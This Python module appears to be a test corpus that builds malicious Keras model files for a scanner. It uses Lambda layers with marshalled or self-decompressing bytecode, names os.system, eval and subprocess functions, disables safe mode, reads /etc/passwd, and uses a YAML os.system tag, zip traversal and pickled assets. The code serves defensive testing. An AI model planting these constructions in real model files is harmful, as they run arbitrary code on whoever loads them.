"""Keras: what a model's configuration can ask for, in `.keras` archives, in HDF5, and beside a SavedModel."""

import base64
import json
import zlib
from collections.abc import Callable
from typing import Any

from tests.corpora.models.attacks.payload import ADDRESS, CODE, MARKER, SHELL, lambda_code
from tests.corpora.models.attacks.pickle_streams import EVIL, npy
from tests.corpora.models.attacks.registry import Acts, Made, Maker, attack
from tests.corpora.models.attacks.wire import field, hdf5, message
from tests.corpora.models.attacks.zips import Member, archive

_TRUSTED_ONLY = "asks for a consent that nobody gives here, or for what is not there"


def _keras(
    id: str,
    says: str,
    acts: Acts = "load",
    suffix: str = ".keras",
    proof: str = "",
    unproved: str = _TRUSTED_ONLY,
) -> Callable[[Maker], Maker]:
    needs = ("keras",) if proof else ()
    return attack(
        f"keras-{id}", acts=acts, family="keras", says=says, suffix=suffix, proof=proof, needs=needs,
        unproved="" if proof else unproved,
    )  # fmt: skip


def layer(
    kind: str, config: dict[str, Any], module: str = "keras.layers", registered: str | None = None
) -> dict[str, Any]:
    """One layer as Keras 3 writes it."""
    return {"module": module, "class_name": kind, "config": config, "registered_name": registered}


def model(*layers: dict[str, Any], compiled: dict[str, Any] | None = None) -> dict[str, Any]:
    """A sequential model of an input of four numbers and these layers."""
    entry = layer("InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "name": "input"})
    whole = layer(
        "Sequential", {"name": "net", "trainable": True, "layers": [entry, *layers]}, module="keras"
    )
    whole["build_config"] = {"input_shape": [None, 4]}
    if compiled:
        whole["compile_config"] = compiled
    return whole


def saved(config: dict[str, Any], *more: Member | tuple[str, bytes]) -> bytes:
    """A `.keras` archive of that configuration, without weights."""
    metadata = {"keras_version": "3.8.0", "date_saved": "2024-01-01@00:00:00"}
    members = [("metadata.json", json.dumps(metadata).encode()), ("config.json", json.dumps(config).encode())]
    return archive(*members, *more, ("model.weights.h5", hdf5({"layers": b"none"})))


def legacy(config: dict[str, Any], version: bytes = b"2.12.0") -> bytes:
    """A model in one HDF5 file, as Keras 2 wrote it."""
    return hdf5(
        {"keras_version": version, "backend": b"tensorflow", "model_config": json.dumps(config).encode()}
    )


def _marshalled() -> dict[str, Any]:
    code = base64.b64encode(lambda_code()).decode()
    return {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}


def _lambda(function: Any = None, **more: Any) -> dict[str, Any]:
    return layer(
        "Lambda",
        {"name": "scale", "trainable": True, "function": function or _marshalled(), "arguments": {}, **more},
    )


def _named(module: str, name: str) -> dict[str, Any]:
    """A function by its module and name, which Keras imports."""
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def _old(kind: str, config: dict[str, Any]) -> dict[str, Any]:
    """A sequential model of Keras 2 with one layer."""
    return {
        "class_name": "Sequential",
        "config": {"name": "net", "layers": [{"class_name": kind, "config": config}]},
    }


def _old_lambda() -> dict[str, Any]:
    code = base64.b64encode(lambda_code()).decode()
    return {
        "name": "scale",
        "function": [code, None, None],
        "function_type": "lambda",
        "module": "__main__",
        "arguments": {},
    }


@_keras("lambda", "a Lambda layer with marshalled bytecode", proof="keras")
def _() -> Made:
    return saved(model(_lambda()))


@_keras("lambda-nested", "a Lambda layer in a model in a model", proof="keras")
def _() -> Made:
    return saved(model(layer("Dense", {"name": "d", "units": 2}), model(_lambda())))


@_keras("lambda-wrapped", "a Lambda layer inside TimeDistributed")
def _() -> Made:
    return saved(model(layer("TimeDistributed", {"name": "t", "layer": _lambda()})))


@_keras("lambda-output-shape", "a Lambda layer whose output shape is the function", acts="load")
def _() -> Made:
    return saved(model(_lambda(_named("keras.ops", "abs"), output_shape=_marshalled())))


@_keras("lambda-mask", "a Lambda layer whose mask is the function")
def _() -> Made:
    return saved(model(_lambda(_named("keras.ops", "abs"), mask=_marshalled())))


@_keras("lambda-in-deflated-config", "a Lambda layer in a configuration that is deflated", proof="keras")
def _() -> Made:
    config = json.dumps(model(_lambda())).encode()
    return archive(
        Member("config.json", config, method=8),
        ("metadata.json", b'{"keras_version": "3.8.0"}'),
        ("model.weights.h5", hdf5({"x": b"y"})),
    )


@_keras("function-os-system", "a Lambda layer whose function is `os.system`, by name")
def _() -> Made:
    return saved(model(_lambda(_named("os", "system"), arguments={"command": SHELL})))


@_keras("function-eval", "a Lambda layer whose function is `builtins.eval`, by name")
def _() -> Made:
    return saved(model(_lambda(_named("builtins", "eval"))))


@_keras("function-by-wrapper", "a layer of Keras whose inner function is named: `subprocess.run`")
def _() -> Made:
    return saved(model(layer("Activation", {"name": "a", "activation": _named("subprocess", "run")})))


@_keras("class-by-module", "a class by its module: `subprocess.Popen` with a configuration as arguments")
def _() -> Made:
    return saved(model(layer("Popen", {"args": ["touch", MARKER]}, module="subprocess")))


@_keras("class-in-shipped-module", "a class in a module that has to be imported first")
def _() -> Made:
    return saved(model(layer("Layer", {"name": "x"}, module="weights_layers.custom")))


@_keras(
    "unsafe-deserialization",
    "switches Keras's own safety off by a function named in the configuration, then a Lambda",
)
def _() -> Made:
    switch = _named("keras.config", "enable_unsafe_deserialization")
    switched = {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "a", "function": switch}}
    return saved(model(switched, _lambda()))


@_keras("get-file", "a function of Keras that fetches a file: `keras.utils.get_file`")
def _() -> Made:
    return saved(
        model(_lambda(_named("keras.utils", "get_file"), arguments={"origin": ADDRESS, "cache_dir": "/tmp"}))
    )


@_keras("load-model-inside", "a function of Keras that loads another model: `keras.models.load_model`")
def _() -> Made:
    return saved(
        model(
            _lambda(
                _named("keras.models", "load_model"),
                arguments={"filepath": "/tmp/x.keras", "safe_mode": False},
            )
        )
    )


@_keras("compile-loss", "a loss that is a named function of another module")
def _() -> Made:
    compiled = {"optimizer": "sgd", "loss": _named("os", "system"), "metrics": None}
    return saved(model(layer("Dense", {"name": "d", "units": 1}), compiled=compiled))


@_keras("compile-metric-lambda", "a metric that is a marshalled lambda")
def _() -> Made:
    compiled = {"optimizer": "sgd", "loss": "mse", "metrics": [_marshalled()]}
    return saved(model(layer("Dense", {"name": "d", "units": 1}), compiled=compiled))


@_keras("initializer-named", "an initializer that is a named function")
def _() -> Made:
    return saved(
        model(layer("Dense", {"name": "d", "units": 1, "kernel_initializer": _named("os", "popen")}))
    )


@_keras(
    "vocabulary-path",
    "a StringLookup whose vocabulary is a file of the machine that loads it",
)
def _() -> Made:
    return saved(
        model(layer("StringLookup", {"name": "s", "vocabulary": "/etc/passwd", "num_oov_indices": 1}))
    )


@_keras("vocabulary-address", "a TextVectorization whose vocabulary is fetched from an address")
def _() -> Made:
    return saved(model(layer("TextVectorization", {"name": "t", "vocabulary": ADDRESS})))


@_keras("tfsm-layer", "a TFSMLayer, which loads a SavedModel from a path")
def _() -> Made:
    return saved(
        model(layer("TFSMLayer", {"name": "t", "filepath": "/tmp/weights", "call_endpoint": "serve"}))
    )


@_keras("torch-module-wrapper", "a TorchModuleWrapper, whose module is a pickle in base64", acts="load")
def _() -> Made:
    from tests.corpora.models.attacks.pickle_streams import checkpoint

    pickled = base64.b64encode(archive(*checkpoint())).decode()
    config = {"name": "w", "module": {"class_name": "__bytes__", "config": {"value": pickled}}}
    return saved(model(layer("TorchModuleWrapper", config)))


@_keras("custom-object", "a registered class of a package nobody knows", acts="none")
def _() -> Made:
    return saved(model(layer("Scale", {"name": "x"}, module=None, registered="weights>Scale")))  # type: ignore[arg-type]


@_keras(
    "zip-traversal",
    "an archive with a member that climbs out of it",
    unproved="today's zipfile keeps it inside",
)
def _() -> Made:
    return saved(model(layer("Dense", {"name": "d", "units": 1})), ("../../../tmp/alcaide-marker", b""))


@_keras("assets-pickle", "a pickle that acts among the assets", proof="zip")
def _() -> Made:
    return saved(model(layer("Dense", {"name": "d", "units": 1})), ("assets/vocabulary/words.pkl", EVIL))


@_keras(
    "weights-npz",
    "weights as an `.npz` with a pickled member",
    unproved="today's Keras refuses pickled arrays",
)
def _() -> Made:
    weights = archive(("layers.npy", npy(EVIL)))
    config = json.dumps(model(layer("Dense", {"name": "d", "units": 1}))).encode()
    return archive(("config.json", config), ("metadata.json", b"{}"), ("model.weights.npz", weights))


@_keras("config-twice", "two members called config.json: one plain, one with a Lambda")
def _() -> Made:
    return saved(
        model(layer("Dense", {"name": "d", "units": 1})),
        ("config.json", json.dumps(model(_lambda())).encode()),
    )


@_keras("duplicate-key", "a configuration with one key twice, where readers differ in which counts")
def _() -> Made:
    text = json.dumps(model(_lambda())).replace(
        '"class_name": "Lambda"', '"class_name": "Dense", "class_name": "Lambda"'
    )
    return archive(
        ("config.json", text.encode()), ("metadata.json", b"{}"), ("model.weights.h5", hdf5({"x": b"y"}))
    )


@_keras("unicode-key", "a configuration that spells Lambda in \\u escapes", proof="keras")
def _() -> Made:
    text = (
        json.dumps(model(_lambda()))
        .replace('"Lambda"', '"\\u004cambda"')
        .replace("__lambda__", "\\u005f_lambda__")
    )
    return archive(
        ("config.json", text.encode()),
        ("metadata.json", b'{"keras_version": "3.8.0"}'),
        ("model.weights.h5", hdf5({"x": b"y"})),
    )


@_keras("h5-lambda", "HDF5 of Keras 2 with a Lambda layer", suffix=".h5")
def _() -> Made:
    return legacy(_old("Lambda", _old_lambda()))


@_keras("h5-lambda-three", "HDF5 with a Lambda layer as Keras 3 writes it", suffix=".hdf5", proof="keras")
def _() -> Made:
    return legacy(model(_lambda()), b"3.8.0")


@_keras("h5-lambda-functional", "HDF5 with a Lambda layer deep in a functional model", suffix=".h5")
def _() -> Made:
    inner = {
        "class_name": "Functional",
        "config": {
            "name": "f",
            "layers": [{"class_name": "Lambda", "name": "l", "config": _old_lambda(), "inbound_nodes": []}],
        },
    }
    return legacy({"class_name": "Functional", "config": {"name": "m", "layers": [inner]}})


@_keras("h5-named-function", "HDF5 with a Lambda layer whose function is named: `os.system`", suffix=".h5")
def _() -> Made:
    return legacy(
        _old(
            "Lambda",
            {
                "name": "l",
                "function": "system",
                "function_type": "function",
                "module": "os",
                "arguments": {"command": SHELL},
            },
        )
    )


@_keras("h5-training-config", "HDF5 whose training configuration names the loss", suffix=".h5")
def _() -> Made:
    config = {
        "loss": {"class_name": "Lambda", "config": _old_lambda()},
        "optimizer_config": {"class_name": "SGD", "config": {}},
    }
    return hdf5(
        {
            "model_config": json.dumps(_old("Dense", {"units": 1})).encode(),
            "training_config": json.dumps(config).encode(),
        }
    )


@_keras("h5-no-suffix", "HDF5 with a Lambda layer, called weights.dat", suffix=".dat", proof="")
def _() -> Made:
    return legacy(_old("Lambda", _old_lambda()))


@_keras("h5-custom-layer", "HDF5 with a layer class nobody knows", acts="none", suffix=".h5")
def _() -> Made:
    return legacy(_old("WeightsScale", {"name": "x", "units": 3}))


@_keras(
    "h5-user-block",
    "HDF5 behind a block of 512 bytes, where its signature may lie as well",
    suffix=".h5",
    proof="",
)
def _() -> Made:
    return b"\0" * 512 + legacy(_old("Lambda", _old_lambda()))


@_keras("json-model", "a model's configuration as a JSON file, with a Lambda", suffix=".json", proof="")
def _() -> Made:
    return json.dumps(_old("Lambda", _old_lambda())).encode()


@_keras(
    "yaml-model",
    "a model's configuration as a YAML file of old Keras, with Python tags",
    suffix=".yaml",
    proof="",
)
def _() -> Made:
    return f"class_name: Sequential\nconfig:\n- !!python/object/apply:os.system ['{SHELL}']\n".encode()


@_keras("saved-metadata", "the Keras metadata beside a SavedModel, with a Lambda", suffix="", proof="")
def _() -> Made:
    text = json.dumps({"class_name": "Lambda", "name": "scale", "config": _old_lambda()})
    node = message((2, 1), (3, "root.layer-1"), (4, "_tf_keras_layer"), (5, text))
    return {"keras_metadata.pb": field(1, node), "saved_model.pb": message((1, 1))}


@_keras("lambda-compressed-code", "a Lambda layer whose bytecode unpacks more of itself", proof="keras")
def _() -> Made:
    import marshal

    packed = base64.b64encode(zlib.compress(CODE.encode())).decode()
    scope: dict[str, Any] = {}
    exec(
        f"f = lambda x: (x, exec(__import__('zlib').decompress(__import__('base64').b64decode({packed!r}))))[0]",
        scope,
    )
    code = base64.b64encode(marshal.dumps(scope["f"].__code__)).decode()
    return saved(
        model(
            _lambda({"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}})
        )
    )
